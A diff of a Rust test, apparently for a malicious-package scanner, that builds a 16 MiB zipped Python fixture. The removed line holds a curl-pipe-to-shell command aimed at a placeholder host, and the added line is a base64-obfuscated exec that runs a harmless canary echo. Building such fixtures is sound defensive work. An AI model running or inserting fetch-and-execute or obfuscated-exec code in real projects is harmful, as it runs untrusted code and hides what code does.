@@ -90,7 +90,10 @@ fn crash_and_memory_fixtures_stay_within_bounds() {
 
     // One 16 MiB `.py` (just under the bound on code files) of one-line statements in a
     // 50 KB zip, payload last.
-    let payload = "import os\nos.system('curl https://example.invalid/x | sh')\n";
+    // The payload decodes and runs `import os; os.system('echo assay-canary')`; a file
+    // holding an indicator literal (a URL) is parsed whole instead, and 16 MiB of it stop
+    // at the node budget (PKG014, also malicious, but slow in a debug build).
+    let payload = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2VjaG8gYXNzYXktY2FuYXJ5Jyk='))\n";
     let big = padded_python(16 * MIB as usize - 4096, "x = 1 + 2\n", payload, &mut seed);
     assert!(big.len() as u64 > 15 * MIB);
     let z = zip_of(&[("pkg/__init__.py".into(), big)]);
